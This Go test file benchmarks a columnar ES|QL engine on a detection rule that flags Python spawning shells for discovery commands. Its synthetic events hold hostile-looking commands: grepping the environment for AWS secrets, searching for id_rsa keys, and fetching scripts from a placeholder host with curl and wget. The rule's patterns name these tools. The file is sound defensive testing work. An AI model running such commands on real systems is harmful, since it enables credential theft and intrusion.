package compute_test

import (
	"strconv"
	"sync"
	"syscall"
	"testing"
	"time"

	"vigil/internal/doc"
	"vigil/internal/esql"
	"vigil/internal/esql/agg"
	"vigil/internal/esql/compute"
	"vigil/internal/esql/fn"
)

// cpuTime is the process's CPU time so far. On a shared, loaded machine
// wall-clock ns/op mostly measures waiting; the benchmarks also report
// CPU time per event ("cpu-ns/…").
func cpuTime() time.Duration {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// seedQuery is the seed rule's query (../shared/seed/execution_suspicious_python_command_execution.toml).
const seedQuery = `FROM logs-endpoint.events.process-* METADATA _id, _version, _index
| WHERE host.os.type in ("linux", "macos") and event.type == "start" and TO_LOWER(process.parent.name) like "python*" and
  process.name in ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "busybox") and
  KQL("""event.action:"exec" and process.args:("-c" or "-cl" or "-lc")""")
| EVAL Esql.time_window_date_trunc = DATE_TRUNC(1 minutes, @timestamp)
| EVAL Esql.process_command_line_patterns = CASE(
  process.command_line like "*grep*", "grep",
  process.command_line like "*find*", "find",
  process.command_line like "*curl*", "curl",
  process.command_line like "*env *", "environment_enumeration",
  process.command_line like "*wget*", "wget",
  process.command_line like "*whoami*" or process.command_line like "*uname*" or process.command_line like "*hostname*", "discovery", "other"
)
| KEEP @timestamp, _id, _index, _version, Esql.process_command_line_patterns, Esql.time_window_date_trunc, host.os.type, event.type,
    event.action, process.parent.name, process.working_directory, process.parent.working_directory, process.name, process.executable,
    process.command_line, process.parent.executable, process.parent.entity_id, agent.id, host.name, data_stream.dataset, data_stream.namespace
| STATS
  Esql.process_command_line_count_distinct = COUNT_DISTINCT(process.command_line),
  Esql.patterns_count_distinct = COUNT_DISTINCT(Esql.process_command_line_patterns),
  Esql.process_command_line_values = VALUES(process.command_line),
  Esql.host_name_values = values(host.name),
  Esql.agent_id_values = values(agent.id),
  Esql.data_stream_dataset_values = values(data_stream.dataset),
  Esql.data_stream_namespace_values = values(data_stream.namespace)
  BY process.parent.entity_id, agent.id, host.name, Esql.time_window_date_trunc
| SORT Esql.process_command_line_count_distinct DESC
| WHERE Esql.process_command_line_count_distinct >= 5 AND Esql.patterns_count_distinct >= 4`

// seedCompiled compiles the seed query against the built-in endpoint mapping.
func seedCompiled(tb testing.TB) *esql.Query {
	tb.Helper()
	m, ok := doc.BuiltinMapping("logs-endpoint.events.process")
	if !ok {
		tb.Skip("no built-in endpoint mapping")
	}
	q, err := esql.Compile(seedQuery, catalog{m}, esql.Options{})
	if err != nil {
		tb.Fatal(err)
	}
	return q
}

// The fields the seed rule reads, as a page's blocks.
var seedFields = []compute.Field{
	{Name: "host.os.type", Type: doc.Keyword}, {Name: "event.type", Type: doc.Keyword}, // 0 1
	{Name: "process.parent.name", Type: doc.Keyword}, {Name: "process.name", Type: doc.Keyword}, // 2 3
	{Name: "event.action", Type: doc.Keyword}, {Name: "process.args", Type: doc.Keyword}, // 4 5
	{Name: "@timestamp", Type: doc.Date}, {Name: "process.command_line", Type: doc.Keyword}, // 6 7
	{Name: "process.parent.entity_id", Type: doc.Keyword}, {Name: "agent.id", Type: doc.Keyword}, // 8 9
	{Name: "host.name", Type: doc.Keyword}, {Name: "data_stream.dataset", Type: doc.Keyword}, // 10 11
	{Name: "data_stream.namespace", Type: doc.Keyword}, // 12
}

// seedWhereFields are the fields the seed rule's WHERE reads; the others
// are loaded only for the rows it keeps.
var seedWhereFields, seedOtherFields = []int{0, 1, 2, 3, 4, 5}, []int{6, 7, 8, 9, 10, 11, 12}

// seedBenchDocs are n laid-out exec events as the hunt's decoder makes
// them: a new parent process every 8 events (or, fresh, for 7 events in
// 8, as in the hunt's stream where most events open a group), 1 in 20
// failing KQL(), one event every 40 ms.
func seedBenchDocs(n int, fresh bool) []*doc.Document {
	names := make([]string, len(seedFields))
	for i, f := range seedFields {
		names[i] = f.Name
	}
	l := doc.NewLayout(names)
	cmds := []string{"whoami", "uname -a", "env | grep AWS", "find / -name id_rsa", "curl http://x/a.sh", "wget http://x/b", "hostname", "ls -la /tmp"}
	base := time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)
	ds := make([]*doc.Document, n)
	for i := range ds {
		c := cmds[(i*7+i/8)%len(cmds)]
		parent := i / 8
		if fresh {
			parent = i - i/8
		}
		host := strconv.Itoa(i / 8 % 50)
		action := "exec"
		if i%20 == 7 {
			action = "fork"
		}
		ds[i] = &doc.Document{Index: ".ds-logs-endpoint.events.process-default-2026.11.20-000001", ID: "id" + strconv.Itoa(i), Layout: l, Slots: []doc.Value{
			doc.KeywordOf("linux"), doc.KeywordOf("start"), doc.KeywordOf("python3.11"), doc.KeywordOf("sh"),
			doc.KeywordOf(action), {T: doc.Keyword, M: []doc.Value{doc.KeywordOf("sh"), doc.KeywordOf("-c"), doc.KeywordOf(c)}},
			doc.TimeOf(base.Add(time.Duration(i) * 40 * time.Millisecond)), doc.KeywordOf("sh -c " + c),
			doc.KeywordOf("ZjQ2NjM1YzktNDNlZS05ZGY1LTUzMjctNGM1ZDkwYTYxNGI3LT" + strconv.Itoa(parent)),
			doc.KeywordOf("agent-" + host), doc.KeywordOf("host-" + host),
			doc.KeywordOf("endpoint.events.process"), doc.KeywordOf("default"),
		}}
	}
	return ds
}

// seedPlan is the seed rule lowered by hand onto kernels.
type seedPlan struct {
	where, window, patterns compute.Expr
	grouper                 *compute.Grouper
	aggs                    *compute.Aggregates
}

func newSeedPlan() *seedPlan {
	col := func(i int) compute.Expr { return compute.Col(i, seedFields[i].Type) }
	kw := func(s string) compute.Expr { return compute.Lit(doc.KeywordOf(s), doc.Keyword) }
	kws := func(ss ...string) []doc.Value {
		var out []doc.Value
		for _, s := range ss {
			out = append(out, doc.KeywordOf(s))
		}
		return out
	}
	like := func(x compute.Expr, p string, site int) compute.Expr {
		return must(compute.Like(x, []*string{&p}, false, false, site))
	}
	sp := &seedPlan{}
	sp.where = compute.And(compute.And(compute.And(compute.And(
		must(compute.In(col(0), kws("linux", "macos"), false, 0)),
		must(compute.Binary(fn.Eq, col(1), kw("start"), 1)), 2),
		like(must(compute.ToLower(col(2))), "python*", 3), 4),
		must(compute.In(col(3), kws("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "busybox"), false, 5)), 6),
		compute.And(compute.MatchAny(col(4), []string{"exec"}), compute.MatchAny(col(5), []string{"-c", "-cl", "-lc"}), 7), 8)
	sp.window = must(compute.DateTrunc(doc.Duration(time.Minute), col(6), 9))
	cl := col(7)
	sp.patterns = compute.Case(doc.Keyword, 10, nil,
		like(cl, "*grep*", 11), kw("grep"), like(cl, "*find*", 12), kw("find"), like(cl, "*curl*", 13), kw("curl"),
		like(cl, "*env *", 14), kw("environment_enumeration"), like(cl, "*wget*", 15), kw("wget"),
		compute.Or(compute.Or(like(cl, "*whoami*", 16), like(cl, "*uname*", 17), 18), like(cl, "*hostname*", 19), 20), kw("discovery"),
		kw("other"))
	compute.Number(sp.where, sp.window, sp.patterns)
	sp.grouper = compute.NewGrouper([]doc.Type{doc.Keyword, doc.Keyword, doc.Keyword, doc.Date})
	var facs []agg.Factory
	for _, name := range []string{"COUNT_DISTINCT", "COUNT_DISTINCT", "VALUES", "VALUES", "VALUES", "VALUES", "VALUES"} {
		f, _ := agg.Lookup(name)
		_, fac, err := f.Resolve([]doc.Type{doc.Keyword}, []*doc.Value{nil})
		if err != nil {
			panic(err)
		}
		facs = append(facs, fac)
	}
	sp.aggs = compute.NewAggregates(facs)
	return sp
}

// run pushes one page through the per-event stage and STATS' hashing and
// aggregate states; it returns how many rows passed the WHERE.
func (sp *seedPlan) run(c *compute.Ctx, pb *compute.PageBuilder, docs []*doc.Document, sel []int32, keys []*compute.Block) ([]int32, []*compute.Block) {
	page := pb.Start(docs)
	all := c.All(page)
	pb.Load(seedWhereFields, all)
	sel = compute.Select(sp.where.Eval(c, page, all), all, sel)
	pb.Load(seedOtherFields, sel) // the rest only where rows passed
	w := sp.window.Eval(c, page, sel)
	pat := sp.patterns.Eval(c, page, sel)
	keys = append(keys[:0], page.Blocks[8], page.Blocks[9], page.Blocks[10], w)
	pos, ids := sp.grouper.Add(keys, sel)
	n := sp.grouper.Len()
	for i, b := range []*compute.Block{page.Blocks[7], pat, page.Blocks[7], page.Blocks[10], page.Blocks[9], page.Blocks[11], page.Blocks[12]} {
		sp.aggs.Add(i, b, pos, ids, n)
	}
	c.Warn.Flush(func(compute.Failure) {})
	return sel, keys
}

// BenchmarkSeedFilter: the seed rule's WHERE over pages of 1024
// documents; ns/op is per document. "build" is the page building alone,
// "where" the filter alone on a built page, "both" the two.
func BenchmarkSeedFilter(b *testing.B) {
	ds := seedBenchDocs(1024, false)
	for _, mode := range []string{"build", "where", "both"} {
		b.Run(mode, func(b *testing.B) {
			sp := newSeedPlan()
			pb := compute.NewPageBuilder(seedFields)
			c := &compute.Ctx{}
			page := pb.Build(ds)
			var sel []int32
			b.ReportAllocs()
			b.ResetTimer()
			cpu := cpuTime()
			for i := 0; i < b.N; i += len(ds) {
				if mode != "where" {
					page = pb.Build(ds)
				}
				if mode != "build" {
					all := c.All(page)
					sel = compute.Select(sp.where.Eval(c, page, all), all, sel)
				}
			}
			b.ReportMetric(float64(cpuTime()-cpu)/float64(b.N), "cpu-ns/doc")
			if mode != "build" && len(sel) == 0 {
				b.Fatal("nothing passed")
			}
		})
	}
}

// BenchmarkSeedColumnar is the seed rule's per-event stage and STATS
// hashing and aggregation, column-wise, per event; compare
// BenchmarkSeedRowEngine (same documents, existing groups after the
// first pass).
func BenchmarkSeedColumnar(b *testing.B) {
	ds := seedBenchDocs(1024, false)
	sp := newSeedPlan()
	pb := compute.NewPageBuilder(seedFields)
	c := &compute.Ctx{}
	var sel []int32
	var keys []*compute.Block
	passed := 0
	b.ReportAllocs()
	b.ResetTimer()
	cpu := cpuTime()
	for i := 0; i < b.N; i += len(ds) {
		sel, keys = sp.run(c, pb, ds, sel, keys)
		passed += len(sel)
	}
	b.ReportMetric(float64(cpuTime()-cpu)/float64(max(passed, 1)), "cpu-ns/passing")
}

// BenchmarkSeedRowEngine is the row executor on the same documents: Push
// per event (per-event stage and STATS).
func BenchmarkSeedRowEngine(b *testing.B) {
	ds := seedBenchDocs(1024, false)
	q := seedCompiled(b)
	e := q.NewExecution()
	b.ReportAllocs()
	b.ResetTimer()
	cpu := cpuTime()
	for i := 0; i < b.N; i++ {
		e.Push(ds[i%len(ds)])
	}
	b.ReportMetric(float64(cpuTime()-cpu)/float64(max(e.Matched(), 1)), "cpu-ns/passing")
}

// freshDocs is the stream of the *NewGroups benchmarks: 16 pages where
// 7 events in 8 open a group; each pass over it starts a new execution.
var freshDocs = sync.OnceValue(func() []*doc.Document { return seedBenchDocs(16*1024, true) })

// BenchmarkSeedColumnarNewGroups is BenchmarkSeedColumnar where most
// events open a group (new key, new aggregate states), as in the hunt.
func BenchmarkSeedColumnarNewGroups(b *testing.B) {
	ds := freshDocs()
	pb := compute.NewPageBuilder(seedFields)
	c := &compute.Ctx{}
	var sel []int32
	var keys []*compute.Block
	var sp *seedPlan
	passed := 0
	b.ReportAllocs()
	b.ResetTimer()
	cpu := cpuTime()
	for i := 0; i < b.N; i += 1024 {
		start := i % len(ds)
		if start == 0 {
			sp = newSeedPlan()
		}
		sel, keys = sp.run(c, pb, ds[start:start+1024], sel, keys)
		passed += len(sel)
	}
	b.ReportMetric(float64(cpuTime()-cpu)/float64(max(passed, 1)), "cpu-ns/passing")
}

// BenchmarkSeedRowEngineNewGroups is BenchmarkSeedRowEngine on the
// stream of BenchmarkSeedColumnarNewGroups.
func BenchmarkSeedRowEngineNewGroups(b *testing.B) {
	ds := freshDocs()
	q := seedCompiled(b)
	var e *esql.Execution
	var passed int64
	b.ReportAllocs()
	b.ResetTimer()
	cpu := cpuTime()
	for i := 0; i < b.N; i++ {
		if i%len(ds) == 0 {
			if e != nil {
				passed += e.Matched()
			}
			e = q.NewExecution()
		}
		e.Push(ds[i%len(ds)])
	}
	passed += e.Matched()
	b.ReportMetric(float64(cpuTime()-cpu)/float64(max(passed, 1)), "cpu-ns/passing")
}

// BenchmarkGroupHash: group ids for 1024 positions per op-iteration; ns/op
// is per position.
func BenchmarkGroupHash(b *testing.B) {
	ds := seedBenchDocs(1024, false)
	page := compute.NewPageBuilder(seedFields).Build(ds)
	c := &compute.Ctx{}
	all := c.All(page)
	window := must(compute.DateTrunc(doc.Duration(time.Minute), compute.Col(6, doc.Date), 0)).Eval(c, page, all)
	for _, bc := range []struct {
		name  string
		types []doc.Type
		keys  []*compute.Block
	}{
		{"keyword", []doc.Type{doc.Keyword}, []*compute.Block{page.Blocks[8]}},
		{"date", []doc.Type{doc.Date}, []*compute.Block{window}},
		{"seed-4-keys", []doc.Type{doc.Keyword, doc.Keyword, doc.Keyword, doc.Date}, []*compute.Block{page.Blocks[8], page.Blocks[9], page.Blocks[10], window}},
	} {
		b.Run(bc.name, func(b *testing.B) {
			g := compute.NewGrouper(bc.types)
			b.ReportAllocs()
			cpu := cpuTime()
			for i := 0; i < b.N; i += len(all) {
				g.Add(bc.keys, all)
			}
			b.ReportMetric(float64(cpuTime()-cpu)/float64(b.N), "cpu-ns/pos")
		})
	}
}

// TestSeedPlanAgainstRowEngine: the benchmark's hand lowering computes
// what the row engine does (groups, in order, and their aggregates).
func TestSeedPlanAgainstRowEngine(t *testing.T) {
	q := seedCompiled(t)
	ds := seedBenchDocs(3000, true)
	e := q.NewExecution()
	for _, d := range ds {
		e.Push(d)
	}
	sp := newSeedPlan()
	pb := compute.NewPageBuilder(seedFields)
	c := &compute.Ctx{}
	passed := 0
	for start := 0; start < len(ds); start += 1024 {
		sel, _ := sp.run(c, pb, ds[start:min(start+1024, len(ds))], nil, nil)
		passed += len(sel)
	}
	if int64(passed) != e.Matched() {
		t.Fatalf("%d rows passed, row engine %d", passed, e.Matched())
	}
	groups := e.OpenGroups()
	if len(groups) != sp.grouper.Len() {
		t.Fatalf("%d groups, row engine %d", sp.grouper.Len(), len(groups))
	}
	for id, want := range groups {
		if got := sp.grouper.Keys(int32(id)); refKey(got) != refKey(want) {
			t.Fatalf("group %d: %v, row engine %v", id, got, want)
		}
	}
}

// BenchmarkAggregatesAdd measures feeding agg states from a block
// position by position (Aggregates.Add, "block") against calling
// State.Add on values already made ("bare"): the difference bounds what a
// block-at-a-time State method could save. ns/op is per position.
func BenchmarkAggregatesAdd(b *testing.B) {
	ds := seedBenchDocs(1024, false)
	page := compute.NewPageBuilder(seedFields).Build(ds)
	c := &compute.Ctx{}
	all := c.All(page)
	g := compute.NewGrouper([]doc.Type{doc.Keyword})
	pos, ids := g.Add(page.Blocks[8:9], all)
	vals := make([]doc.Value, len(pos))
	for k, p := range pos {
		vals[k] = page.Blocks[7].Value(p)
	}
	for _, name := range []string{"VALUES", "COUNT_DISTINCT"} {
		f, _ := agg.Lookup(name)
		_, fac, _ := f.Resolve([]doc.Type{doc.Keyword}, []*doc.Value{nil})
		aggs := compute.NewAggregates([]agg.Factory{fac})
		aggs.Add(0, page.Blocks[7], pos, ids, g.Len())
		b.Run(name+"/block", func(b *testing.B) {
			cpu := cpuTime()
			for i := 0; i < b.N; i += len(pos) {
				aggs.Add(0, page.Blocks[7], pos, ids, g.Len())
			}
			b.ReportMetric(float64(cpuTime()-cpu)/float64(b.N), "cpu-ns/pos")
		})
		b.Run(name+"/bare", func(b *testing.B) {
			cpu := cpuTime()
			for i := 0; i < b.N; i += len(pos) {
				for k, id := range ids {
					aggs.State(0, id).Add(vals[k])
				}
			}
			b.ReportMetric(float64(cpuTime()-cpu)/float64(b.N), "cpu-ns/pos")
		})
	}
}
